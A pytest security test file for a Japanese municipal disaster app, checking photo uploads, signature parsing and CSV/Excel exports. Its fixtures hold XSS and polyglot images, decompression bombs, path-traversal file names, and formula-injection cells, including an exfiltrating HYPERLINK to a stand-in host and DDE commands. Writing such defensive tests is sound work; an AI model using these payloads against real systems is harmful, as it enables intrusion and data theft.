def _webp_claiming(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16)).save(buffer, format="WEBP", lossless=True)
    data = bytearray(buffer.getvalue())
    at = data.index(b"VP8L") + 9  # chunk id, size, signature byte
    bits = (
        (width - 1)
        | ((height - 1) << 14)
        | (int.from_bytes(data[at : at + 4], "little") & ~((1 << 28) - 1))
    )
    data[at : at + 4] = bits.to_bytes(4, "little")
    return bytes(data)


def _jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (35.0, 49.0, 3.0), 3: "E", 4: (139.0, 40.0, 40.0)}
    return _jpeg(8, 8, exif=exif)


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)

IMAGE_REFUSED: dict[str, tuple[str, bytes, str]] = {
    "text named .jpg": ("photo.jpg", b"just some text, not a photo", "not a JPEG"),
    "HTML named .png": ("x.png", b"<html><script>alert(1)</script></html>", "not a JPEG"),
    "SVG with script": ("drawing.svg", SVG, "not a JPEG"),
    "SVG named .jpg": ("drawing.jpg", SVG, "not a JPEG"),
    "GIF/JavaScript polyglot": ("a.jpg", b"GIF89a/*\x00\x00*/=alert(1)//", "not a JPEG"),
    "PDF named .jpg": ("a.jpg", b"%PDF-1.7\n1 0 obj<<>>endobj", "not a JPEG"),
    "an empty file": ("a.jpg", b"", "empty"),
    "PNG bomb (100,000 × 100,000)": ("bomb.png", _png_claiming(100_000, 100_000), "megapixels"),
    "PNG bomb just over the limit (12,000 × 10,000)": (
        "bomb.png",
        _png_claiming(12_000, 10_000),
        "megapixels",
    ),
    "JPEG bomb (65,000 × 65,000)": ("bomb.jpg", _jpeg_claiming(65_000, 65_000), "megapixels"),
    "WebP bomb (16,000 × 16,000)": ("bomb.webp", _webp_claiming(16_000, 16_000), "megapixels"),
}


class _Named(io.BytesIO):
    """A file as a command opens it: any name, bytes in memory."""

    def __init__(self, data: bytes, name: str) -> None:
        super().__init__(data)
        self.name: str | None = name
        self.size: int | None = len(data)


@pytest.mark.parametrize("case", list(IMAGE_REFUSED))
def test_photo_check_refuses(case: str) -> None:
    name, data, words = IMAGE_REFUSED[case]
    with pytest.raises(services_field.FieldError) as info:
        services_field.photo_check(_Named(data, name))
    assert info.value.field == "photos"
    assert words in str(info.value)


@pytest.mark.parametrize("case", list(IMAGE_REFUSED))
def test_incident_form_refuses_hostile_photos_on_the_photos_field(env: Env, case: str) -> None:
    name, data, words = IMAGE_REFUSED[case]
    if not data:
        pytest.skip("an empty file is no upload at all for the form")
    before = counts(IncidentPhoto, AuditEvent)
    response = env.client(env.field).post(
        "/console/incidents/new/",
        {
            **SIZE_DOORS["incident photos"].extra,
            "id": str(uuid.uuid4()),
            "photos": [SimpleUploadedFile(name, data)],
        },
    )
    assert response.status_code == 400
    form = response.context["form"]
    assert list(form.errors) == ["photos"]
    assert words in form.errors["photos"][0]
    assert counts(IncidentPhoto, AuditEvent) == before
    assert not list((Path(env.tmp_path) / "media").rglob("*.*"))


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("IMG_0001.JPG", _jpeg(4000, 3000), "image/jpeg"),  # 12 MP, what a phone writes
        ("big.png", _png_claiming(8_000, 6_000), "image/png"),  # 48 MP
        # A JPEG with HTML after its end: an image to every decoder; stored and served as
        # image/jpeg under our own name, with nosniff, so no browser runs it as a page.
        ("poly.jpg", _jpeg(8, 8) + b"<html><script>alert(1)</script></html>", "image/jpeg"),
        ("gps.jpg", _jpeg_with_gps(), "image/jpeg"),
    ],
)
def test_photo_check_accepts_real_photos(name: str, data: bytes, kind: str) -> None:
    assert services_field.photo_check(_Named(data, name)).content_type == kind


def _incident(env: Env) -> Any:
    return services_field.incident_report(
        incident_id=uuid.uuid4(),
        category="flooding",
        severity=3,
        title="冠水",
        address="上戸田1丁目",
        reported_by=env.field,
    ).incident


API_IMAGE_CASES = [
    "SVG with script",
    "PNG bomb (100,000 × 100,000)",
    "JPEG bomb (65,000 × 65,000)",
    "text named .jpg",
]


@pytest.mark.parametrize("case", API_IMAGE_CASES)
def test_the_photo_api_refuses_hostile_images_on_the_file_field(env: Env, case: str) -> None:
    name, data, _words = IMAGE_REFUSED[case]
    incident = _incident(env)
    _, secret = core_services.token_create(user=env.field, name="test")
    before = counts(IncidentPhoto)
    response = Client().post(
        f"/api/v1/incidents/{incident.pk}/photos",
        {"file": SimpleUploadedFile(name, data)},
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "body.file"
    assert counts(IncidentPhoto) == before


@pytest.mark.parametrize("case", ["PNG bomb (100,000 × 100,000)", "SVG with script"])
def test_the_incident_photo_page_adds_nothing_when_one_photo_is_hostile(
    env: Env, media: Path, case: str
) -> None:
    name, data, _words = IMAGE_REFUSED[case]
    incident = _incident(env)
    response = env.client(env.field).post(
        f"/console/incidents/{incident.pk}/photos/",
        {"photos": [SimpleUploadedFile("ok.jpg", _jpeg(8, 8)), SimpleUploadedFile(name, data)]},
        follow=True,
    )
    assert response.status_code == 200
    assert any(name in str(m) for m in response.context["messages"])
    assert incident.photos.count() == 0  # all or nothing
    assert not [p for p in media.rglob("*") if p.is_file()]


HOSTILE_NAMES = [
    "../../etc/passwd.jpg",
    "..\\..\\windows\\win.ini.jpg",
    "/etc/cron.d/evil.jpg",
    "C:\\Windows\\System32\\evil.jpg",
    "photo\x00.php.jpg",
    "A" * 1000 + ".jpg",
    "CON.jpg",
    "NUL.jpg",
    "aux.png",
    "COM1.jpg",
    ".htaccess",
    "photo.jpg.php",
    "写真 (1).jpg",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_photos_land_inside_media_with_our_own_name(env: Env, media: Path, name: str) -> None:
    result = services_field.incident_report(
        incident_id=uuid.uuid4(),
        category="flooding",
        severity=3,
        title="冠水",
        address="上戸田1丁目",
        reported_by=env.field,
        photos=[_Named(_jpeg(8, 8), name)],
    )
    photo = result.incident.photos.get()
    path = Path(photo.image.path).resolve()
    assert path.is_file()
    assert path.is_relative_to(media.resolve() / "incidents")
    assert path.name == f"{photo.pk}.jpg"
    assert [p for p in media.rglob("*") if p.is_file()] == [path]


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.jpg", "/etc/evil.jpg", "A" * 300 + ".jpg", "CON.jpg", "a\\b.jpg"]
)
def test_photos_uploaded_through_the_form_land_inside_media(
    env: Env, media: Path, name: str
) -> None:
    response = env.client(env.field).post(
        "/console/incidents/new/",
        {
            **SIZE_DOORS["incident photos"].extra,
            "id": str(uuid.uuid4()),
            "photos": [SimpleUploadedFile(name, _jpeg(8, 8))],
        },
    )
    assert response.status_code == 302
    photo = IncidentPhoto.objects.get()
    path = Path(photo.image.path).resolve()
    assert path.is_relative_to(media.resolve() / "incidents")
    assert path.name == f"{photo.pk}.jpg"


def test_exif_gps_is_kept_and_served_only_through_the_access_check(env: Env) -> None:
    """Policy (reported): the field's photos keep their EXIF, GPS included; the place of damage
    is useful to HQ. They are served only to staff who may read the incident."""
    data = _jpeg_with_gps()
    result = services_field.incident_report(
        incident_id=uuid.uuid4(),
        category="flooding",
        severity=3,
        title="冠水",
        address="上戸田1丁目",
        reported_by=env.field,
        photos=[_Named(data, "gps.jpg")],
    )
    photo = result.incident.photos.get()
    assert Path(photo.image.path).read_bytes() == data
    with Image.open(io.BytesIO(Path(photo.image.path).read_bytes())) as image:
        assert 0x8825 in image.getexif()
    url = f"/console/incidents/{result.incident.pk}/photos/{photo.pk}"
    served = env.client(env.field).get(url)
    assert served.status_code == 200
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert Client().get(url).status_code in (302, 403)


# =============================================================================================
# 6. CMS signatures (.p7s) from the resident portal
# =============================================================================================


@pytest.mark.parametrize(
    "signature",
    [
        b"",
        b"\x30\x82\xff\xff" + b"\x00" * 32,  # DER that claims 65 kB and has 32 bytes
        b"\x30" + b"\x80" * 1000,  # indefinite lengths, nested
        b"-----BEGIN PKCS7-----\nnot base64!\n-----END PKCS7-----\n",
        "署名".encode("utf-16"),
        b"\x30" + b"\x00" * (300 * 1024),  # over the limit
        _png(4, 4),
    ],
)
def test_a_hostile_signature_file_is_a_signature_error(signature: bytes) -> None:
    from cryptography import x509

    from machi.procedures.identity import jpki
    from machi.procedures.identity.jpki import SignatureError

    anchors: list[x509.Certificate] = []
    with pytest.raises(SignatureError) as info:
        jpki.verify(b"{}", signature, anchors=anchors, crls=[])
    assert info.value.code == "format", info.value  # refused as a file, before any trust


# =============================================================================================
# 7. Formula injection in every CSV and Excel export
# =============================================================================================

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_excel_cell_neutralises_formulas(text: str) -> None:
    assert japanese.excel_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "-3.5", "0", "12", "", "戸田市", "a=b", "1-2"])
def test_excel_cell_leaves_numbers_and_plain_text(text: str) -> None:
    assert japanese.excel_cell(text) == text


@pytest.mark.parametrize("text", ["-", "--", "-1e3", "-3.", "-.5", "-3\n=1", "+81"])
def test_excel_cell_neutralises_what_only_looks_like_a_number(text: str) -> None:
    assert japanese.excel_cell(text) == "'" + text


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_excel_csv_and_xlsx_keep_numbers_and_neutralise_text() -> None:
    from openpyxl import load_workbook

    rows: list[list[Any]] = [["text", "number"], *[[cell, -3.5] for cell in HOSTILE_CELLS]]
    cells = _csv_cells(japanese.excel_csv(rows))
    assert all(row[0].startswith("'") for row in cells[1:])
    assert all(row[1] == "-3.5" for row in cells[1:])
    book = load_workbook(io.BytesIO(japanese.excel_xlsx(rows)))
    sheet = book.active
    assert sheet is not None
    for (text, number), (cell, amount) in zip(rows[1:], sheet.iter_rows(min_row=2), strict=True):
        assert (cell.data_type, cell.value) == ("s", text)  # a string, never a formula
        assert (amount.data_type, amount.value) == ("n", number)


def test_the_open_data_excel_variant_uses_the_same_rule() -> None:
    plain = opendata_services.csv_bytes([["名称", "経度"], *[[c, "-3.5"] for c in HOSTILE_CELLS]])
    cells = _csv_cells(opendata_services.excel_bytes(plain))
    assert [row[0] for row in cells[1:]] == ["'" + c for c in HOSTILE_CELLS]
    assert {row[1] for row in cells[1:]} == {"-3.5"}


def test_formulas_imported_into_the_guide_come_out_neutralised(env: Env) -> None:
    rows = ["ID,質問,回答,カテゴリ,所管部署"]
    for n, text in enumerate(HOSTILE_CELLS[:5]):
        quoted = '"' + text.replace('"', '""') + '"'
        rows.append(f"q{n},{quoted},{quoted},{quoted[:60]},{quoted[:60]}")
    assert DOORS["guide"].submit(env, ("\n".join(rows) + "\n").encode()).ok
    data = env.client(env.pr).get("/console/guide/faq.csv").content
    cells = _csv_cells(data)
    for row in cells[1:]:
        for value in row[2:6]:
            assert value.startswith("'"), row


def test_formulas_imported_as_shelter_names_come_out_neutralised(env: Env) -> None:
    lines = _good_shelters().splitlines()
    hostile = lines[1].replace("戸田東小学校", '"=HYPERLINK(""http://evil.example"",""x"")"')
    hostile = hostile.replace("埼玉県戸田市下戸田1-11-15", "+1+cmd|' /C calc'!A0")
    assert _submit_shelters(env, ("\n".join([lines[0], hostile]) + "\n").encode()).ok
    from machi.emergency import services as emergency_services
    from machi.shelters import services as shelter_services

    disaster = emergency_services.disaster_declare(
        name="台風", hazards=["flood"], declared_by=env.hq
    )
    shelter_services.opening_open(shelter=Shelter.objects.get(), disaster=disaster)
    from machi.core import memo

    memo.forget()
    data = Client().get("/shelters/status.csv").content
    names = [row for row in _csv_cells(data) if "HYPERLINK" in ",".join(row)]
    assert names, _csv_cells(data)
    for row in names:
        for value in row:
            assert value[:1] not in "=+-@", row


def test_formulas_in_the_audit_log_come_out_neutralised(
    env: Env, auditor: User, django_capture_on_commit_callbacks: Any
) -> None:
    from tests.core.factories import FacilityFactory

    hostile = User.objects.create_user(username="=cmd|' /C calc'!A0", password="x" * 16)
    facility = cast(
        Facility,
        FacilityFactory(
            municipality=env.municipality, name='=HYPERLINK("http://evil.example","x")'
        ),
    )
    core_services.audit_record(action=Action.UPDATE, record=facility, actor=hostile)
    client = env.client(auditor)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/console/audit/export/", {"object_type": "core.facility"})
    assert response.status_code == 302, response.context["form"].errors
    download = client.get(response["Location"] + "download/")
    content = b"".join(download.streaming_content)  # type: ignore[attr-defined]
    rows = _csv_cells(content)
    hostile_rows = [row for row in rows if "HYPERLINK" in ",".join(row)]
    assert hostile_rows
    for row in hostile_rows:
        assert row[1] == "'=cmd|' /C calc'!A0"
        assert row[5].startswith("'=HYPERLINK")
